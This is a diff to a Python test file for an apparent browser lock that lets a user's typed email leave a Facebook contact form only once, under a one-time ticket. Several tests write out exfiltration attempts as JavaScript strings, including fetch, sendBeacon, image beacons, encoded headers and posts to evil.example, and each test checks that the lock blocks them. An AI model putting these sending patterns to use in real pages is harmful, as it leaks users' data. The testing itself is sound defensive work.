@@ -40,7 +40,7 @@ def start(launch: Launch, server: Recorder | None = None) -> str:
     """Start as a run does, and say where the tab is."""
 
     def do() -> str:
-        with open_tab(launch, (), server, lambda: None) as tab:
+        with open_tab(launch, server, lambda: None) as tab:
             return tab.page.url
 
     return apart(do)
@@ -70,7 +70,7 @@ class Opened:
         self.site = site
         # As at a start: a blank page is there before the lock.
         context.new_page()
-        self.lock = Lock(context, (r"/ajax/help/contact/submit/.*",), site)
+        self.lock = Lock(context, site)
         self.tab = Tab(context, self.lock, check)
         self.page: Page = self.tab.page
         if site.page:
@@ -107,7 +107,8 @@ def opened(browser: Browser) -> Iterator[Any]:
 
 
 def ticket() -> Ticket:
-    return Ticket((HOST,), (SUBMIT,), (("", EMAIL),), home=(HOST,))
+    never = ("510058597920541",)
+    return Ticket((HOST,), (("", EMAIL),), never, home=(HOST, "*.facebook.com"))
 
 
 def post(body: str, path: str = SUBMIT, host: str = "") -> str:
@@ -215,18 +216,168 @@ def test_a_ticket_that_was_not_used_shuts_again(opened: Any) -> None:
 ELSEWHERE = "https://www.facebook.com.example.org"
 
 
-def test_once_it_is_used_a_code_leaves_but_nothing_that_was_typed_does_again(opened: Any) -> None:
-    there = opened()
+def used(there: Opened) -> Ticket:
+    """The form is filled and sent; the ticket that let it out."""
     there.fill()
-    there.lock.ticket(ticket())
+    given = there.lock.ticket(ticket())
     there.send(post(EMAIL))
+    assert given.used
+    return given
+
+
+def test_once_it_is_used_the_page_goes_on_but_says_nothing_of_it_again(opened: Any) -> None:
+    there = opened()
+    used(there)
 
     there.send(post("nonce=123456", "/code"))
+    there.send(post("doc=thanks", "/api/graphql/"))
     for again in (post(EMAIL), post(f"c=1&e={EMAIL}", "/code"), post(EMAIL[::-1], "/x")):
         there.send(again)
-    there.send(post("nonce=123456", "/code", ELSEWHERE))
+    there.send(post(f"from={EMAIL}", "/log", ELSEWHERE))
+    there.send(post("what=else", "/log", ELSEWHERE))
 
-    assert there.site.received[1:] == [f"POST https://{HOST}/code nonce=123456"]
+    assert there.site.received[1:] == [
+        f"POST https://{HOST}/code nonce=123456",
+        f"POST https://{HOST}/api/graphql/ doc=thanks",
+        f"POST {ELSEWHERE}/log what=else",
+    ]
+
+
+def blob(path: str) -> str:
+    return f"fetch('{path}', {{method: 'POST', body: new Blob(['{EMAIL}'])}})"
+
+
+@pytest.mark.parametrize(
+    "sending",
+    sampled(
+        [
+            f"fetch('/x?{EMAIL}')",
+            f"fetch('/x', {{headers: {{'x-mail': '{EMAIL}'}}}})",
+            f"navigator.sendBeacon('/x', '{EMAIL}')",
+            f"navigator.sendBeacon('/x', new Blob(['{EMAIL}']))",
+            blob("/x"),
+            f"fetch('/x', {{headers: {{['x' + '{EMAIL.encode().hex()}']: '1'}}}})",
+            f"fetch('/x', {{method: 'PUT', body: '{EMAIL}'}})",
+            post(EMAIL, "/x", "https://m.facebook.com"),
+            post(EMAIL, "/x", "https://evil.example"),
+            f"navigator.sendBeacon('https://evil.example/x', '{EMAIL}')",
+        ],
+        2,
+    ),
+)
+def test_once_it_is_used_it_is_not_said_again_in_any_way(opened: Any, sending: str) -> None:
+    there = opened()
+    used(there)
+
+    there.send(sending)
+
+    assert len(there.site.received) == 1
+
+
+def test_of_several_values_one_may_go_on_to_the_site_and_none_to_others(opened: Any) -> None:
+    there = opened()
+    there.lock.shut([EMAIL, "my reason"])
+    both = f"email={EMAIL}&why=my%20reason"
+    named = (("email", EMAIL), ("why", "my reason"))
+    there.lock.ticket(Ticket((HOST,), named, home=("*.facebook.com",)))
+    there.send(post(both))
+
+    there.send(post(f"code=1&email={EMAIL}", "/code"))
+    there.send(post(both, "/code"))
+    there.send(post("why=my%20reason", "/x", "https://evil.example"))
+
+    assert there.site.received[1:] == [f"POST https://{HOST}/code code=1&email={EMAIL}"]
+
+
+@pytest.mark.thorough
+def test_once_it_is_used_a_page_that_is_loaded_anew_does_not_send_again(opened: Any) -> None:
+    there = opened(PAGE.replace(" target=into", ""))
+    there.fill()
+    there.lock.ticket(ticket_named())
+    there.page.locator("#send").click()
+    there.pump()
+    assert len(there.site.received) == 1
+
+    there.page.evaluate("void setTimeout(() => location.reload())")
+    there.pump()
+
+    assert len(there.site.received) == 1
+    assert there.lock.again.place == f"POST {HOST}{SUBMIT}"
+
+
+def ticket_named() -> Ticket:
+    return Ticket((HOST,), (("email", EMAIL),), home=(HOST,))
+
+
+# The same once more, with a yes of its own.
+
+
+def test_the_same_again_is_told_and_leaves_once_on_a_second_ticket(opened: Any) -> None:
+    there = opened()
+    used(there)
+    assert there.lock.again is None
+    there.send(post(f"a={EMAIL}&confirmed=1", "/confirm"))
+    again = there.lock.again
+    assert (again.place, len(there.site.received)) == (f"POST {HOST}/confirm", 1)
+
+    second = there.lock.ticket_again()
+    there.send(post("what=else", "/log"))
+    there.send(post(f"a={EMAIL}"))
+    for _ in range(2):
+        there.send(post(f"a={EMAIL}&confirmed=1", "/confirm"))
+
+    assert second.used.place == again.place
+    assert there.site.received[1:] == [
+        f"POST https://{HOST}/log what=else",
+        f"POST https://{HOST}/confirm a={EMAIL}&confirmed=1",
+    ]
+    # It asks once more: that would be a third one, for a yes of its own.
+    assert there.lock.again is not None
+
+
+@pytest.mark.parametrize(
+    "sending",
+    sampled(
+        [
+            f"navigator.sendBeacon('/x', '{EMAIL}')",
+            f"fetch('/x?{EMAIL}')",
+            post(EMAIL, "/draft"),
+            post(EMAIL, "/x", "https://evil.example"),
+            post("nothing"),
+        ],
+        2,
+    ),
+)
+def test_a_copy_is_no_reason_to_ask_for_a_second_ticket(opened: Any, sending: str) -> None:
+    there = opened()
+    used(there)
+
+    there.send(sending)
+
+    assert there.lock.again is None
+    with pytest.raises(NotSent, match="did not ask"):
+        there.lock.ticket_again()
+
+
+def test_a_second_ticket_that_ran_out_lets_nothing_through(opened: Any) -> None:
+    there = opened()
+    used(there)
+    there.send(post(EMAIL))
+    there.lock.ticket_again().expires = 0.0
+
+    there.send(post(EMAIL))
+
+    assert len(there.site.received) == 1
+
+
+def test_a_shut_lock_opens_for_no_second_ticket(opened: Any) -> None:
+    there = opened()
+    used(there)
+    there.send(post(EMAIL))
+    there.lock.shut()
+
+    with pytest.raises(NotSent):
+        there.lock.ticket_again()
 
 
 # The ticket.
@@ -243,12 +394,47 @@ def test_of_three_requests_on_one_ticket_one_leaves(opened: Any) -> None:
     assert wanted(there.lock.stopped) == [f"POST {HOST}{SUBMIT}"] * 2
 
 
+@pytest.mark.parametrize("path", ["/elsewhere", "/api/graphql/", "/login", "/x/catalog"])
+def test_a_ticket_is_for_whatever_path_the_form_is_sent_to(opened: Any, path: str) -> None:
+    there = opened()
+    there.fill()
+    there.lock.ticket(ticket())
+
+    there.send(post(f"a={EMAIL}", path))
+
+    assert there.site.received == [f"POST https://{HOST}{path} a={EMAIL}"]
+
+
+@pytest.mark.parametrize("copy", ["/draft", "/log"])
+def test_a_copy_does_not_use_the_ticket_up_nor_shorten_its_time(opened: Any, copy: str) -> None:
+    there = opened()
+    there.fill()
+    given = there.lock.ticket(ticket())
+    end = given.expires
+
+    there.send(f"{post(EMAIL, copy)}, {post('what=else', '/x')}")
+    assert (given.used, given.refused, given.expires) == (None, None, end)
+    there.send(post(EMAIL))
+
+    assert there.site.received == [f"POST https://{HOST}{SUBMIT} {EMAIL}"]
+
+
 @pytest.mark.parametrize(
     "sending",
     sampled(
         [
             post("another@example.org"),
-            post(EMAIL, "/elsewhere"),
+            post(EMAIL, "/ajax/save_draft"),
+            post(EMAIL, "/ajax/autosave"),
+            post(EMAIL, "/logging/x"),
+            post(f"email={EMAIL}&fb_api_req_friendly_name=ContactDraftMutation"),
+            post(f"email={EMAIL}&is_autosave=1"),
+            post(f"email={EMAIL}&form=510058597920541"),
+            post(f"email={EMAIL}", f"{SUBMIT}?form=510058597920541"),
+            post(f"email={EMAIL}", "/help/contact/510058597920541/submit"),
+            f"new Image().src = '{SUBMIT}?email={EMAIL}'",
+            f"fetch('/x', {{headers: {{'x-mail': '{EMAIL}'}}}})",
+            f"fetch('/x', {{headers: {{'x-mail': btoa('{EMAIL}')}}}})",
             post(EMAIL, host="https://evil.example"),
             f"navigator.sendBeacon('{SUBMIT}', '{EMAIL}')",
             f"fetch('{SUBMIT}', {{method: 'PUT', body: '{EMAIL}'}})",
@@ -594,7 +780,7 @@ def test_the_self_test_holds_where_every_address_leads_to_another_server(launch:
 
 def test_a_download_is_refused(launch: Launch, tmp_path: Path) -> None:
     def do() -> str | None:
-        with open_tab(launch, (), Recorder(), lambda: None) as tab:
+        with open_tab(launch, Recorder(), lambda: None) as tab:
             tab.go(FORM)
             tab.page.set_content("<a href='data:text/plain,x' download=planted.txt>get</a>")
             with tab.page.expect_download() as download:
